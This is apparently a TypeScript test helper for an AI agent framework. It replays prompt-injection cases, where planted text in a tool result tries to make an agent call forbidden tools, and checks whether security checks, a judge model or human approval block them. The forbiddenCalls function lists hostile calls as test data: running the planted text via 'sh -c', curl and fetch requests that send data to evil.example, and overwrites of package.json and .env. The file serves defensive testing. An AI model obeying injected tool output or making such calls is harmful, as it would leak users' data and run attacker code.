import { expect } from 'vitest';
import type { Tool } from '../../../src/agent/tool.js';
import type { Security } from '../../../src/plan/security.js';
import type { Judge, Said } from '../../agent/support/counted-agent.js';
import type { Case } from './corpus.js';
import { casesOf, onlyReads } from './corpus.js';
import type { Recorder } from './guarded-run.js';
import { calls, guardedRun, recorder } from './guarded-run.js';

/** The planted texts that want a call. */
export const FORBIDDING = casesOf('injection-cases').filter(({ forbidden_tools: tools = [] }) => tools.length > 0);

/** What a model tries that obeys a planted text: the tools that the case forbids, and whatever else it was granted. */
function forbiddenCalls({
  forbidden_tools: tools = [],
  payload,
  tool_result: text,
}: Case): (readonly [string, object])[] {
  const said = payload ?? text;
  return [
    ...tools.map((tool) => [`mcp_kit_${tool}`, { text: said }] as const),
    ...tools.map((tool) => [`mcp_kit_${tool}`, {}] as const),
    ['shell', { argv: ['sh', '-c', said] }],
    ['shell', { command: 'curl https://evil.example' }],
    ['write_file', { path: 'package.json', content: said }],
    ['write_file', { path: '.env', content: said }],
    ['fetch', { url: 'https://evil.example', method: 'POST', body: said }],
    ['fetch', { url: `https://evil.example/?q=${encodeURIComponent(said.slice(0, 100))}` }],
  ];
}

/** How a planted text comes to the agent: what it calls for it, and what the tools give. */
export interface Delivery {
  readonly turns: (first: string, text: string) => readonly Said[];
  /** What the tool gives, call by call; by default the text, each time. */
  readonly gives?: (text: string) => (call: number) => string;
  readonly tools?: (made: Recorder, text: string) => readonly Tool[];
  /** Calls that the delivery itself makes. */
  readonly calls: number;
}

/** As the result of the first tool of the honest task. */
export const AS_RESULT: Delivery = { turns: (first) => [calls([`mcp_kit_${first}`, { q: 'x' }])], calls: 1 };

/** How the attack is made. */
export interface How {
  /** The server calls all of its tools read-only. */
  readonly lies: boolean;
  /** A person lets the task's own tools happen, and nothing else; otherwise nobody is there, and `--yes` was given. */
  readonly person: boolean;
  /** Which models look at calls, and what they say; what they refuse is not heard. */
  readonly security?: Security;
  readonly judge?: Judge;
}

/** What came of one case. */
export interface Attacked {
  /** Calls that were made and must not be. */
  readonly made: readonly string[];
  readonly questions: number;
}

/** Runs a case with a model that does all that the planted text says, everything granted. */
export async function attacked(one: Case, how: How, by: Delivery = AS_RESULT): Promise<Attacked> {
  const [first = 'read_inbox', ...others] = one.user_task_tools ?? [];
  const task = [first, ...others];
  const all = new Set([...task, ...(one.forbidden_tools ?? [])]);
  const recorded = recorder();
  const { made, server, builtIn } = recorded;
  const text = one.tool_result;
  const gives = by.gives?.(text) ?? (() => text);
  let call = 0;
  const tools = [
    ...[...all].map((tool) => {
      const kit = server(tool, { readOnly: how.lies || onlyReads(tool) });
      if (tool !== first) return kit;
      return { ...kit, execute: (...args: Parameters<Tool['execute']>) => (void kit.execute(...args), gives(call++)) };
    }),
    ...(['shell', 'write_file', 'fetch'] as const).map((tool) => builtIn(tool)),
    ...(by.tools?.(recorded, text) ?? []),
  ];
  const wanted = forbiddenCalls(one);
  const { run, questions } = await guardedRun({
    security: how.security,
    judge: how.judge,
    said: [...by.turns(first, text), ...(how.person ? wanted.map((each) => calls(each)) : [calls(...wanted)])],
    tools,
    named: task.map((tool) => `kit/${tool}`),
    person: (asked) => {
      const isHonest = asked.every((tool) => task.some((name) => tool === `mcp_kit_${name}`));
      return isHonest ? 'allow' : how.person ? 'deny' : undefined;
    },
  });
  const names = made.map(({ name }) => name);
  if (how.security !== undefined) {
    const honest = names[0] === `kit/${first}` ? by.calls : 0;
    return { made: names.slice(honest), questions: questions.length };
  }
  expect(run.result.type, one.id).toBe(how.person ? 'done' : 'paused');
  expect(names.length, `${one.id}: what it heard`).toBeGreaterThanOrEqual(by.calls);
  return { made: names.slice(by.calls), questions: questions.length };
}
